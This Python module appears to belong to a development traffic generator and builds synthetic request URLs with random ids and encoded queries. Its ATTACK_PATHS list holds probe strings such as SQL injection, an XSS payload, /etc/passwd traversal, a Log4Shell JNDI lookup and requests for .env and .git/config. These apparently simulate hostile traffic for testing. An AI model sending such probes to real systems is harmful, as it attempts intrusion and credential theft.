"""
Make the URLs of the generated traffic: paths with ids in them, and queries.

A route asks for a *maker* once, and calls it for a fresh URL per request, so most of the
work is done before the first line.
"""

from __future__ import annotations

import re
from base64 import urlsafe_b64encode
from itertools import product
from typing import TYPE_CHECKING
from urllib.parse import quote

from devstack.traffic.draws import favour_early, pick

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

_MARKER = re.compile(r"{(\w+)}")

_PHRASES = (
    "café au lait",
    "größe 42",
    "naïve bayes",
    "smørrebrød",
    "crème brûlée",
    "żółta łódź",
    "Ёлка",
    "東京タワー",
    "50% off",
    "C# & F#",
    "rock 'n' roll",
    'the "real" deal',
    "a/b testing",
    "[1 TO 10]",
    "price < 100 €",
    "😀 stickers",
)
_SLUGS = tuple(
    f"{adjective}-{noun}"
    for adjective, noun in product(
        ("red", "small", "organic", "vintage", "light", "wireless", "folding", "heavy"),
        ("lamp", "desk", "bicycle", "backpack", "kettle", "keyboard", "jacket", "tent", "mug"),
    )
)
_PLAIN_QUERIES = ("page=%d&size=50", "utm_source=newsletter&utm_campaign=%d", "since=%d", "v=%d")
_ENCODED_QUERIES = (
    *(f"q={quote(phrase)}&page=%d" for phrase in _PHRASES),
    *(f"filter={quote('name:' + phrase, safe='')}&limit=%d" for phrase in _PHRASES),
    *(f"return={quote('https://www.example.com/' + slug, safe='')}&n=%d" for slug in _SLUGS[:12]),
)

ATTACK_PATHS = (
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/?id=1%27%20OR%20%271%27%3D%271",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/cgi-bin/../../../../etc/passwd",
    "/?x=${jndi:ldap://198.51.100.7/a}",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/api/v1/users?sort=name);DROP%20TABLE%20users",
)


def _number(rng: Random) -> str:
    return str(int(rng.random() * 9_000_000) + 100)


def _uuid(rng: Random) -> str:
    digits = f"{rng.getrandbits(128):032x}"
    return f"{digits[:8]}-{digits[8:12]}-4{digits[13:16]}-a{digits[17:20]}-{digits[20:]}"


def _hex(rng: Random) -> str:
    return f"{rng.getrandbits(96):024x}"


def _token(rng: Random) -> str:
    return urlsafe_b64encode(rng.randbytes(18)).decode()


def _slug(rng: Random) -> str:
    return favour_early(_SLUGS, rng)


def _build(rng: Random) -> str:
    return pick(("7f3c21", "b81d90", "04aa5e"), rng)


_FILLERS = {
    "number": _number,
    "uuid": _uuid,
    "hex": _hex,
    "token": _token,
    "slug": _slug,
    "build": _build,
}


def url_maker(
    template: str, *, encoded: float = 0.0, plain: float = 0.0
) -> Callable[[Random], str]:
    """
    Return a function that makes one URL (path and query) per call.

    `{number}`, `{uuid}`, `{hex}`, `{token}`, `{slug}` and `{build}` in the template are
    filled in again for each URL; `encoded` and `plain` are the shares of URLs that get a query
    with and without %XX in it.
    """
    fillers = tuple(_FILLERS[name] for name in _MARKER.findall(template))
    pattern = _MARKER.sub("%s", template)

    def make(rng: Random) -> str:
        path = pattern % tuple([fill(rng) for fill in fillers])
        drawn = rng.random()
        if drawn < encoded:
            return f"{path}?{_query(_ENCODED_QUERIES, rng)}"
        if drawn < encoded + plain:
            return f"{path}?{_query(_PLAIN_QUERIES, rng)}"
        return path

    return make


def _query(patterns: tuple[str, ...], rng: Random) -> str:
    pattern = pick(patterns, rng)
    # The phrases contain % signs, so %-formatting would not work.
    return pattern.replace("%d", str(int(1 + 400 * rng.random() ** 2)))
